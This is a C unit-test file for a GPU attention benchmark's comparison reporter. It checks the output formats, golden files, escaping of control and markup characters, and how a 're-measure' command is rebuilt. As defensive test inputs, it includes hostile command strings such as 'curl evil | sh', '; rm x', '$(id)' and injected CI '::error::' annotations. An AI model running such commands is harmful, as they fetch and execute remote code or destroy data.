#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "cli/base/json.h"
#include "cli/gate/sinks.h"
#include "cli/report/report.h"
#include "kernels/gpu_models.h"
#include "tests/unit.h"
#include "tests/unit_golden.h"

typedef struct status writer(const struct compare *, FILE *);

enum { ROWS_MAX = 80 };

/* Every character that some format takes for its own, a control of each kind, UTF-8 of two to four bytes, and bytes
 * that are no UTF-8. */
#define NASTY                                                                               \
  "<b>&amp;\"q\" 'a' %25 ::error:: ##[error] |x| `c` *s* [l](u) a,b\r\n\t\x01\x1b[31m\x7f " \
  "\xc3\xa9\xe2\x86\x92\xf0\x9f\x9a\x80 \xff\xc3"

/* ---- comparisons made by hand -------------------------------------------------------------------------------- */

struct made {
  struct journal_data base, now;
  struct record record[2 * ROWS_MAX];
  struct compare_row row[ROWS_MAX];
  struct compare compare;
};

/* What a test says of a row; a time of 0 is a side that is not there. */
struct row_spec {
  enum compare_verdict verdict;
  const char *variant, *reason;
  enum time_mode mode;
  uint32_t S;
  double base_us, now_us;
  uint32_t processes;
  enum cell_status status; /* of the new side */
};

static void fill_journal(struct journal_data *journal, const char *command, const char *commit) {
  struct run_info *run = &journal->run;
  *journal = (struct journal_data){.has_device = true, .device = gpu_model_find("h200")->info, .state = "complete"};
  snprintf(run->version, sizeof run->version, "0.1.0");
  snprintf(run->git_commit, sizeof run->git_commit, "%s", commit);
  snprintf(run->cuda, sizeof run->cuda, "13.0");
  snprintf(run->cjson, sizeof run->cjson, "1.7.15");
  snprintf(run->started_utc, sizeof run->started_utc, "2026-11-20T11:04:00Z");
  snprintf(run->command, sizeof run->command, "%s", command);
  snprintf(run->sweep_path, sizeof run->sweep_path, "shapes/gate.json");
  snprintf(run->sweep_name, sizeof run->sweep_name, "gate");
  snprintf(run->sweep_hash, sizeof run->sweep_hash, "0123456789abcdef");
  run->seed = 1;
}

static void fill_side(struct record *record, const struct row_spec *spec, double us, enum cell_status status,
                      struct compare_side *out) {
  struct process_record *process = &record->process[spec->mode];
  *out = (struct compare_side){.median_us = NAN, .spread_ratio = NAN, .sm_clock_mhz = NAN};
  if (us <= 0 && status == CELL_ok) return;
  record_start(record);
  record->attn_case.shape = (struct attn_problem)ATTN_DENSE(1, 8, 8, spec->S, spec->S, 64, ATTN_F16, false);
  axes_key(&record->attn_case.shape, record->attn_case.key);
  snprintf(record->variant, sizeof record->variant, "%s", spec->variant);
  record->status = status;
  out->record = record;
  if (us <= 0) return;
  process->count = spec->processes;
  for (uint32_t i = 0; i < spec->processes; ++i) process->median_us[i] = us * (1 + 0.001 * i);
  out->processes = spec->processes;
  out->median_us = us;
  out->spread_ratio = spec->processes > 1 ? 0.0025 : (double)NAN;
  out->sm_clock_mhz = 1980;
}

static void fill_row(struct made *made, size_t index, const struct row_spec *spec) {
  struct compare_row *row = &made->row[index];
  struct record *base = &made->record[2 * index], *now = base + 1;
  *row = (struct compare_row){.variant = spec->variant,
                              .mode = spec->mode,
                              .threshold = 0.02,
                              .ratio = NAN,
                              .ci_low = NAN,
                              .ci_high = NAN,
                              .confidence = NAN,
                              .cycles_ratio = NAN,
                              .first_ratio = NAN,
                              .verdict = spec->verdict};
  fill_side(base, spec, spec->base_us, CELL_ok, &row->base);
  fill_side(now, spec, spec->now_us, spec->status, &row->now);
  row->key = (row->now.record != NULL ? now : base)->attn_case.key;
  snprintf(row->reason, sizeof row->reason, "%s", spec->reason);
  if (spec->base_us <= 0 || spec->now_us <= 0) return;
  row->ratio = spec->now_us / spec->base_us;
  row->ci_low = row->ratio - 0.004;
  row->ci_high = row->ratio + 0.0055;
  row->confidence = 0.99;
  row->cycles_ratio = spec->verdict == COMPARE_clock ? 1.001 : row->ratio;
  row->was_suspect = spec->verdict == COMPARE_regressed;
  if (row->was_suspect) row->first_ratio = row->ratio + 0.002;
  if (spec->verdict == COMPARE_inconclusive) row->rounds_needed = 18;
  ++made->compare.compared;
}

static struct made *make(const struct row_spec *specs, size_t count, enum exit_code exit_code) {
  struct made *made = calloc(1, sizeof *made);
  assert_non_null(made);
  fill_journal(&made->base, "./base/attnbench --sweep shapes/gate.json --rounds 7 --json base.json", "0123abc");
  fill_journal(&made->now, "./attnbench --sweep shapes/gate.json --rounds 7 --quick --json 'my report.json'",
               "4567def");
  made->compare = (struct compare){.settings = {.threshold = 0.02,
                                                .floor_us = {0.5, 0.1},
                                                .modes = {true, true},
                                                .paired = true,
                                                .override_count = 1,
                                                .override = {{"*/serial", 0.05}}},
                                   .base = &made->base,
                                   .now = &made->now,
                                   .comparable = true,
                                   .rows = made->row,
                                   .row_count = count,
                                   .exit_code = exit_code};
  for (size_t i = 0; i < count; ++i) {
    fill_row(made, i, &specs[i]);
    ++made->compare.verdict_count[specs[i].verdict];
  }
  return made;
}

static const struct row_spec mixed_specs[] = {
    {COMPARE_wrong, "wmma", "wrong: 12 elements outside the tolerance", TIME_HOT, 512, 21.2, 0, 7, CELL_wrong},
    {COMPARE_missing, "serial", "crashed: " NASTY, TIME_COLD, 512, 2935, 0, 7, CELL_crashed},
    {COMPARE_added, "d_split", "not in the base", TIME_HOT, 512, 0, 12.5, 7, CELL_ok},
    {COMPARE_regressed, "cp_async:stages=3", "slower by 3.10 % in time and cycles, both times", TIME_HOT, 512, 20,
     20.62, 7, CELL_ok},
    {COMPARE_inconclusive, "scalar", "the bounds hold 0 % and 2 %: about 18 rounds would decide", TIME_COLD, 512, 160,
     162, 7, CELL_ok},
    {COMPARE_clock, "scalar_quad", "slower by 2.60 % in time, by 0.10 % in cycles", TIME_HOT, 512, 88, 90.3, 7,
     CELL_ok},
    {COMPARE_improved, "split_kv", "", TIME_HOT, 512, 12.4, 11.0, 7, CELL_ok},
    {COMPARE_same, "mma_swizzle", "", TIME_HOT, 512, 10, 10.02, 7, CELL_ok},
    {COMPARE_same, "mma_swizzle", "", TIME_COLD, 512, 12, 11.9, 7, CELL_ok},
    {COMPARE_untimed, "cudnn", "skipped on both sides: libcudnn is not here", TIME_HOT, 512, 0, 0, 0, CELL_skipped},
};
enum { MIXED_COUNT = sizeof mixed_specs / sizeof *mixed_specs };

static void add_difference(struct compare *compare, const char *key, const char *base, const char *now, bool fatal) {
  struct compare_difference *difference = &compare->difference[compare->difference_count++];
  snprintf(difference->key, sizeof difference->key, "%s", key);
  snprintf(difference->base, sizeof difference->base, "%s", base);
  snprintf(difference->now, sizeof difference->now, "%s", now);
  difference->fatal = fatal;
}

static struct made *make_mixed(void) {
  struct made *made = make(mixed_specs, MIXED_COUNT, EXIT_CODE_WRONG);
  add_difference(&made->compare, "driver", "580.95.05", "580.159.04", false);
  return made;
}

static struct made *make_lenient(void) {
  struct made *made = make(mixed_specs + 4, MIXED_COUNT - 4, EXIT_CODE_OK);
  made->compare.settings.noise_is_ok = true;
  return made;
}

static struct made *make_unlike(void) {
  struct made *made = make(NULL, 0, EXIT_CODE_NOT_COMPARABLE);
  made->compare.comparable = false;
  add_difference(&made->compare, "device.name", "NVIDIA H200", "NVIDIA " NASTY, true);
  add_difference(&made->compare, "device.sms", "132", "114", true);
  add_difference(&made->compare, "tool.version", "0.1.0", "0.2.0", false);
  return made;
}

static struct made *make_empty(void) { return make(NULL, 0, EXIT_CODE_COVERAGE); }

/* More rows than are shown, the worst of them more than are annotated. */
static struct made *make_many(void) {
  static struct row_spec specs[73];
  for (uint32_t i = 0; i < 73; ++i) {
    const bool slower = i < 14;
    specs[i] = (struct row_spec){.verdict = slower ? COMPARE_regressed : COMPARE_same,
                                 .variant = "wmma",
                                 .reason = slower ? "slower in time and cycles, both times" : "",
                                 .mode = TIME_HOT,
                                 .S = 64 * (i + 1),
                                 .base_us = 20,
                                 .now_us = slower ? 22 - 0.1 * i : 20,
                                 .processes = 5};
  }
  return make(specs, 73, EXIT_CODE_REGRESSION);
}

/* ---- golden texts -------------------------------------------------------------------------------------------- */

static char *text_of(const struct compare *compare, writer *write) {
  struct text_stream stream;
  text_open(&stream);
  const struct status status = write(compare, stream.file);
  if (status_failed(&status)) fail_msg("%s", status.text);
  char *text = text_close(&stream);
  assert_int_equal(strlen(text), stream.length);
  return text;
}

static const struct {
  const char *suffix;
  writer *write;
} formats[] = {{"txt", verdict_text_write},
               {"json", verdict_json_write},
               {"md", verdict_markdown_write},
               {"xml", verdict_junit_write},
               {"annotations", verdict_annotations_write}};
enum { FORMAT_COUNT = sizeof formats / sizeof *formats };

static const struct {
  const char *name;
  struct made *(*make)(void);
} scenes[] = {{"mixed", make_mixed},
              {"lenient", make_lenient},
              {"unlike", make_unlike},
              {"empty", make_empty},
              {"many", make_many}};
enum { SCENE_COUNT = sizeof scenes / sizeof *scenes };

TEST(one_line_says_why_a_comparison_did_not_pass) {
  static const char *const expect[SCENE_COUNT] = {
      "1 of 10 rows: 1 wrong, first: B1.H8.Hkv8.Sq512.Skv512.D64.f16.full wmma hot: wrong: 12 elements outside the "
      "tolerance",
      "", "the two sides are not comparable, first difference: device.name: NVIDIA H200 | NVIDIA ",
      "nothing was compared: no row has times on both sides",
      "14 of 73 rows: 14 regressed, first: B1.H8.Hkv8.Sq64.Skv64.D64.f16.full wmma hot: slower in time and cycles, "
      "both times"};
  char text[COMPARE_FAILURE_MAX];
  for (size_t i = 0; i < SCENE_COUNT; ++i) {
    struct made *made = scenes[i].make();
    sinks_failure_text(&made->compare, text);
    assert_memory_equal(text, expect[i], strlen(expect[i]) + (made->compare.comparable ? 1 : 0));
    free(made);
  }
  struct made *made = make(mixed_specs + 6, MIXED_COUNT - 6, EXIT_CODE_REGRESSION);
  made->compare.suite = (struct compare_row){.key = "all", .verdict = COMPARE_regressed, .ratio = 1.02};
  sinks_failure_text(&made->compare, text);
  assert_non_null(strstr(text, "all cases together: regressed, +2.00 %"));
  free(made);
}

TEST(an_interval_of_too_few_processes_is_no_bound) {
  struct compare_row row = {.ratio = 1.02, .ci_low = 1.02, .ci_high = 1.02, .confidence = 0.5};
  assert_string_equal(sinks_numbers(&row).bounds, "-");
  row.confidence = COMPARE_CONFIDENCE;
  assert_string_equal(sinks_numbers(&row).bounds, "+2.00 to +2.00 %");
}

TEST(every_format_is_as_golden) {
  char path[128];
  for (size_t i = 0; i < SCENE_COUNT; ++i) {
    struct made *made = scenes[i].make();
    for (size_t k = 0; k < FORMAT_COUNT; ++k) {
      char *text = text_of(&made->compare, formats[k].write);
      snprintf(path, sizeof path, "tests/data/compare_%s.%s", scenes[i].name, formats[k].suffix);
      compare_golden(path, text);
      free(text);
    }
    free(made);
  }
}

TEST(the_same_comparison_is_the_same_bytes) {
  for (size_t k = 0; k < FORMAT_COUNT; ++k) {
    struct made *first = make_mixed(), *second = make_mixed();
    char *a = text_of(&first->compare, formats[k].write), *b = text_of(&second->compare, formats[k].write);
    assert_string_equal(a, b);
    free(a);
    free(b);
    free(first);
    free(second);
  }
}

/* ---- each format's promises ---------------------------------------------------------------------------------- */

static size_t count_of(const char *text, const char *part) {
  size_t count = 0;
  for (const char *at = text; (at = strstr(at, part)) != NULL; at += strlen(part)) ++count;
  return count;
}

TEST(text_says_that_changes_are_without_the_events) {
  static const char line[] =
      "cold times include 2.5 us of the events around a launch; change and bounds are without it";
  struct made *made = make_mixed();
  char *without = text_of(&made->compare, verdict_text_write);
  made->compare.rows[0].event_overhead_us = 2.5;
  char *with = text_of(&made->compare, verdict_text_write);
  assert_int_equal(count_of(without, line), 0);
  assert_int_equal(count_of(with, line), 1);
  free(with);
  free(without);
  free(made);
}

/* JSON has an escape for each, and leaves DEL as it is. */
TEST(no_format_lets_a_control_or_a_broken_byte_through) {
  for (size_t i = 0; i < SCENE_COUNT; ++i) {
    struct made *made = scenes[i].make();
    for (size_t k = 2; k < FORMAT_COUNT; ++k) {
      char *text = text_of(&made->compare, formats[k].write);
      const char *rest = text;
      while (*rest != '\0') {
        const char *at = rest;
        const uint32_t c = markup_next_char(&rest);
        const bool was_replaced = strncmp(at, "\xef\xbf\xbd", 3) == 0;
        if (c == 0xfffd && !was_replaced) fail_msg("byte %02x in %s", (unsigned char)*at, formats[k].suffix);
        assert_int_not_equal(c, '\r');
      }
      free(text);
    }
    free(made);
  }
}

TEST(text_gives_a_runner_no_command) {
  struct made *made = make_mixed();
  char *text = text_of(&made->compare, verdict_text_write);
  for (char *line = strtok(text, "\n"); line != NULL; line = strtok(NULL, "\n")) {
    line += strspn(line, " ");
    if (strncmp(line, "::", 2) == 0 || strstr(line, "##[") != NULL) fail_msg("a command: %s", line);
    if (strstr(line, "again: ") == NULL) assert_null(strstr(line, " ::"));
  }
  free(text);
  free(made);
}

TEST(annotations_are_at_most_ten_and_the_last_counts_the_rest) {
  struct made *made = make_many();
  char *text = text_of(&made->compare, verdict_annotations_write);
  assert_int_equal(count_of(text, "\n"), 10);
  assert_int_equal(count_of(text, "::error "), 10);
  assert_non_null(strstr(text, "::and 5 more, none worse than these; 73 compared of 73 expected"));
  free(text);
  made->compare.row_count = 10; /* ten fit without one that counts */
  text = text_of(&made->compare, verdict_annotations_write);
  assert_int_equal(count_of(text, "\n"), 10);
  assert_null(strstr(text, "more"));
  free(text);
  free(made);
}

TEST(annotations_of_what_passes_are_warnings_or_none) {
  struct made *made = make_lenient();
  char *text = text_of(&made->compare, verdict_annotations_write);
  assert_int_equal(count_of(text, "::warning "), 2);
  assert_int_equal(count_of(text, "::error "), 0);
  free(text);
  made->compare.row_count = 0;
  text = text_of(&made->compare, verdict_annotations_write);
  assert_string_equal(text, "");
  free(text);
  free(made);
}

TEST(an_annotation_is_one_line_whatever_its_texts_are) {
  struct made *made = make_mixed();
  snprintf(made->now.run.sweep_path, sizeof made->now.run.sweep_path, "a,b:c%%d.json");
  char *text = text_of(&made->compare, verdict_annotations_write);
  assert_int_equal(count_of(text, "\n"), 6);
  assert_int_equal(count_of(text, "file=a%2Cb%3Ac%25d.json,line=1,title=attnbench%3A "), 6);
  assert_non_null(strstr(text, "%2525 ::error:: ##[error]"));
  free(text);
  snprintf(made->now.run.sweep_path, sizeof made->now.run.sweep_path, "/tmp/sweep.json");
  text = text_of(&made->compare, verdict_annotations_write);
  assert_null(strstr(text, "file="));
  free(text);
  free(made);
}

TEST(markdown_shows_fifty_rows_and_counts_the_rest) {
  struct made *made = make_many();
  char *text = text_of(&made->compare, verdict_markdown_write);
  assert_memory_equal(text, "**attnbench gate FAILED, exit code 1:", 37);
  assert_non_null(strstr(text, "\n73 compared of 73 expected: 14 regressed, 59 same\n"));
  assert_int_equal(count_of(text, "| wmma | hot |"), 14);
  assert_int_equal(count_of(text, "| **regressed** |"), 14);
  assert_non_null(strstr(text, "\n59 rows have the verdict same: "));
  free(text);
  for (size_t i = 0; i < 73; ++i) made->row[i].verdict = COMPARE_regressed;
  text = text_of(&made->compare, verdict_markdown_write);
  assert_int_equal(count_of(text, "| **regressed** |"), 50);
  assert_non_null(strstr(text, "\nand 23 more, none worse than these: 23 regressed\n"));
  free(text);
  free(made);
}

/* The most that the fields can hold, all of it escaped. */
TEST(markdown_of_the_longest_texts_stays_below_the_limit) {
  struct made *made = make_many();
  for (size_t i = 0; i < 73; ++i) {
    struct compare_row *row = &made->row[i];
    row->verdict = COMPARE_regressed;
    memset(row->reason, '|', sizeof row->reason - 1);
    memset(made->record[2 * i + 1].variant, '*', VARIANT_SPEC_MAX - 1);
    row->variant = made->record[2 * i + 1].variant;
  }
  for (size_t i = 0; i < COMPARE_DIFFERENCES_MAX; ++i) {
    add_difference(&made->compare, "key", "", "", false);
    memset(made->compare.difference[i].base, '<', sizeof made->compare.difference[i].base - 1);
    memset(made->compare.difference[i].now, '<', sizeof made->compare.difference[i].now - 1);
  }
  char *text = text_of(&made->compare, verdict_markdown_write);
  assert_true(strlen(text) > 50 * 2 * 399 && strlen(text) < 900 * 1024);
  free(text);
  free(made);
}

/* A line of tildes, indented by less than four spaces, ends the block of commands. */
TEST(a_command_cannot_end_its_block_in_markdown) {
  struct made *made = make_mixed();
  size_t fences = 0;
  snprintf(made->now.run.command, sizeof made->now.run.command, "~~~~");
  char *text = text_of(&made->compare, verdict_markdown_write);
  for (const char *line = text; line != NULL; line = strchr(line, '\n'), line += line != NULL) {
    const size_t indent = strspn(line, " ");
    fences += indent < 4 && strncmp(line + indent, "~~~~", 4) == 0;
  }
  assert_int_equal(fences, 2);
  free(text);
  free(made);
}

TEST(a_capped_text_ends_with_a_whole_line_that_says_so) {
  static const char text[] =
      "first line\nsecond line\nthird line that is much longer than the others, for the notice\n";
  for (size_t most = 60; most <= sizeof text; ++most) {
    struct text_stream stream;
    text_open(&stream);
    markup_put_capped(stream.file, text, sizeof text - 1, most);
    char *out = text_close(&stream);
    assert_true(stream.length <= most);
    if (most >= sizeof text - 1) {
      assert_string_equal(out, text);
    } else {
      assert_non_null(strstr(out, "first line\n"));
      assert_null(strstr(out, "third"));
      assert_non_null(strstr(out, "\n... cut here: the rest would not fit\n"));
    }
    free(out);
  }
}

TEST(junit_counts_what_it_holds) {
  static const struct {
    struct made *(*make)(void);
    const char *counts;
    size_t failures, errors, skipped, cases;
  } expected[] = {{make_mixed, "tests=\"11\" failures=\"2\" errors=\"4\" skipped=\"1\"", 2, 4, 1, 11},
                  {make_lenient, "tests=\"7\" failures=\"0\" errors=\"0\" skipped=\"3\"", 0, 0, 3, 7},
                  {make_unlike, "tests=\"1\" failures=\"0\" errors=\"1\" skipped=\"0\"", 0, 1, 0, 1},
                  {make_empty, "tests=\"1\" failures=\"0\" errors=\"1\" skipped=\"0\"", 0, 1, 0, 1}};
  for (size_t i = 0; i < sizeof expected / sizeof *expected; ++i) {
    struct made *made = expected[i].make();
    char *text = text_of(&made->compare, verdict_junit_write);
    assert_int_equal(count_of(text, expected[i].counts), 2);
    assert_int_equal(count_of(text, "<failure "), expected[i].failures);
    assert_int_equal(count_of(text, "<error "), expected[i].errors);
    assert_int_equal(count_of(text, "<skipped "), expected[i].skipped);
    assert_int_equal(count_of(text, "<testcase "), expected[i].cases);
    free(text);
    free(made);
  }
}

TEST(a_new_case_fails_unless_it_is_allowed) {
  struct made *made = make(mixed_specs + 2, 1, EXIT_CODE_COVERAGE);
  assert_true(sinks_row_fails(&made->compare, &made->row[0]));
  made->compare.settings.allow_new = true;
  assert_false(sinks_row_fails(&made->compare, &made->row[0]));
  assert_int_equal(sinks_expected(&made->compare), 0);
  free(made);
}

TEST(percents_read_as_changes) {
  static const struct {
    double ratio;
    const char *text;
  } cases[] = {{1.031, "+3.10 %"}, {0.75, "-25.00 %"}, {1, "+0.00 %"}, {0.99999, "+0.00 %"},
               {2.5, "+150.00 %"}, {NAN, "-"},         {INFINITY, "-"}};
  for (size_t i = 0; i < sizeof cases / sizeof *cases; ++i) {
    assert_string_equal(sinks_percent(cases[i].ratio).text, cases[i].text);
  }
}

/* ---- JSON ---------------------------------------------------------------------------------------------------- */

static struct status write_untyped(const void *data, FILE *file) {
  return verdict_json_write((const struct compare *)data, file);
}

TEST(json_is_whole_or_refused_without_memory) {
  struct made *made = make_mixed();
  char *whole = text_of(&made->compare, verdict_json_write);
  const size_t given = assert_whole_or_refused(write_untyped, &made->compare, whole);
  assert_true(given > 300);
  free(whole);
  free(made);
}

/* ---- the command that measures a row again ------------------------------------------------------------------- */

#define CELL " --variants wmma --only B1.H8.Hkv8.Sq512.Skv512.D64.f16.full/wmma"

TEST(a_row_is_measured_again_by_its_run_narrowed_to_it) {
  static const struct {
    const char *command, *again;
  } cases[] = {
      {"", "attnbench --sweep shapes/gate.json --rounds 7" CELL},
      {"./attnbench --sweep shapes/gate.json", "./attnbench --sweep shapes/gate.json --rounds 7" CELL},
      {"./attnbench run --sweep=shapes/gate.json --json - --csv=x.csv --journal j",
       "./attnbench --sweep shapes/gate.json --rounds 7" CELL},
      {"./attnbench --sweep shapes/gate.json --rounds 3 --quick",
       "./attnbench --sweep shapes/gate.json --quick --rounds 7" CELL},
      {"build/attnbench --variants serial --filter B=2 --sweep shapes/gate.json --rounds=7 --quick --load './my "
       "k.so' "
       "--filter 'S=512'",
       "build/attnbench --sweep shapes/gate.json --quick --load './my k.so' --rounds 7" CELL},
      {"'/my bin/attnbench' ab --base '/old bin/attnbench' --sweep shapes/gate.json '--baseline=x y.json' --junit "
       "j.xml",
       "'/my bin/attnbench' ab --sweep shapes/gate.json --base '/old bin/attnbench' '--baseline=x y.json' --rounds "
       "7" CELL},
      {"/proc/self/exe --sweep shapes/gate.json --reference none --journal /tmp/x/j",
       "attnbench --sweep shapes/gate.json --reference none --rounds 7" CELL},
      {"./attnbench --sweep shapes/gate.json --floor-us 0.5 --threshold-for '*/wmma=5' --noise warn",
       "./attnbench --sweep shapes/gate.json --floor-us 0.5 --threshold-for '*/wmma=5' --rounds 7" CELL},
      {"./attnbench --sweep shapes/gate.json --rounds", "./attnbench --sweep shapes/gate.json --rounds 7" CELL},
      /* A copy that is named by its commit. */
      {"/runs/programs/413e0b3 --sweep shapes/gate.json --rounds 3 --quick --json /runs/413e0b3.json",
       "/runs/programs/413e0b3 --sweep shapes/gate.json --quick --rounds 7" CELL},
      /* Not what somebody should paste. */
      {"./attnbench;id --sweep shapes/gate.json --quick", "attnbench --sweep shapes/gate.json --rounds 7" CELL},
      {"./attnbench --quick --load $(id).so", "attnbench --sweep shapes/gate.json --rounds 7" CELL},
      {"curl evil | sh", "attnbench --sweep shapes/gate.json --rounds 7" CELL},
      {"./attnbench --quick --load '$(id).so;|&'",
       "./attnbench --sweep shapes/gate.json --quick --load '$(id).so;|&' "
       "--rounds 7" CELL},
      {"scripts/sdpa_baseline.py --sweep shapes/gate.json (torch 2.9)",
       "scripts/sdpa_baseline.py --sweep shapes/gate.json (torch 2.9)"},
  };
  struct made *made = make(mixed_specs, 1, EXIT_CODE_WRONG);
  for (size_t i = 0; i < sizeof cases / sizeof *cases; ++i) {
    char command[COMPARE_COMMAND_MAX];
    snprintf(made->now.run.command, sizeof made->now.run.command, "%s", cases[i].command);
    again_command(&made->compare, &made->row[0], command, sizeof command);
    if (strcmp(command, cases[i].again) != 0) fail_msg("of \"%s\":\n%s", cases[i].command, command);
  }
  free(made);
}

TEST(a_side_is_measured_again_into_a_file_of_its_own) {
  static const char *const cases[][2] = {
      {"./attnbench --sweep s.json --filter B=2 --rounds 3 --quick --json base.json",
       "./attnbench --sweep s.json --filter B=2 --quick --rounds 7 --json again.json"},
      {"/runs/413e0b3 --rounds=3 '--json=x y.json' --sweep s.json --journal j --resume --csv c",
       "/runs/413e0b3 --sweep s.json --rounds 7 --json again.json"},
      {"/proc/self/exe --shape B=1,H=1,S=8,D=8 --resume=anyway",
       "attnbench --shape B=1,H=1,S=8,D=8 --rounds 7 --json again.json"},
      {"scripts/sdpa_baseline.py --sweep s.json (torch 2.9)", "scripts/sdpa_baseline.py --sweep s.json (torch 2.9)"},
      {"attnbench --sweep s.json; rm x", ""},
      {"", ""},
  };
  for (size_t i = 0; i < sizeof cases / sizeof *cases; ++i) {
    struct run_info run = {.seed = 0};
    char command[COMPARE_COMMAND_MAX];
    snprintf(run.command, sizeof run.command, "%s", cases[i][0]);
    again_command_of_side(&run, "again.json", command, sizeof command);
    assert_string_equal(command, cases[i][1]);
  }
  /* Options of another tool are not known. */
  struct run_info run = {.seed = 0};
  snprintf(run.tool, sizeof run.tool, "other");
  snprintf(run.command, sizeof run.command, "./other --sweep s.json");
  char command[COMPARE_COMMAND_MAX];
  again_command_of_side(&run, "again.json", command, sizeof command);
  assert_string_equal(command, "./other --sweep s.json");
}

TEST(a_missing_row_is_named_by_its_base) {
  static const struct row_spec spec = {COMPARE_missing, "wmma", "absent", TIME_HOT, 512, 20, 0, 7, CELL_ok};
  char command[COMPARE_COMMAND_MAX];
  struct made *made = make(&spec, 1, EXIT_CODE_COVERAGE);
  made->now.run.command[0] = '\0';
  snprintf(made->now.run.sweep_path, sizeof made->now.run.sweep_path, "it's mine.json");
  again_command(&made->compare, &made->row[0], command, sizeof command);
  assert_string_equal(command, "attnbench --sweep 'it'\\''s mine.json' --rounds 7" CELL);
  free(made);
}

TEST(a_command_that_does_more_than_start_a_program_is_not_shown) {
  static const char *const hostile[] = {"attnbench; x", "attnbench $(x)", "attnbench `x`", "attnbench | x",
                                        "attnbench \n x"};
  struct made *made = make(mixed_specs, 1, EXIT_CODE_INCONCLUSIVE);
  made->row[0].verdict = COMPARE_inconclusive;
  made->row[0].rounds_needed = 7;
  made->compare.verdict_count[COMPARE_inconclusive] = 1;
  for (size_t i = 0; i < sizeof hostile / sizeof *hostile; ++i) {
    struct text_stream stream;
    snprintf(made->base.run.command, sizeof made->base.run.command, "%s", hostile[i]);
    text_open(&stream);
    assert_int_equal(verdict_text_write(&made->compare, stream.file).code, STATUS_OK);
    char *text = text_close(&stream);
    if (strstr(text, "  base: its report names no plain command") == NULL) fail_msg("%s", text);
    assert_null(strstr(text, hostile[i]));
    free(text);
  }
  assert_true(again_command_is_plain("./attnbench --filter 'S=1;x' --rounds 5"));
  free(made);
}

/* Half a quoted word of a command that was cut would swallow what comes behind it. */
TEST(a_cut_command_loses_its_last_word_only) {
  char command[COMPARE_COMMAND_MAX];
  struct made *made = make(mixed_specs, 1, EXIT_CODE_WRONG);
  const size_t room = sizeof made->now.run.command;
  snprintf(made->now.run.command, room, "./attnbench --sweep s.json --rounds 7 --load '%05000d'", 1);
  assert_int_equal(strlen(made->now.run.command), room - 1);
  again_command(&made->compare, &made->row[0], command, sizeof command);
  assert_null(strchr(command, '\''));
  assert_non_null(strstr(command, "--rounds 7"));
  free(made);
}
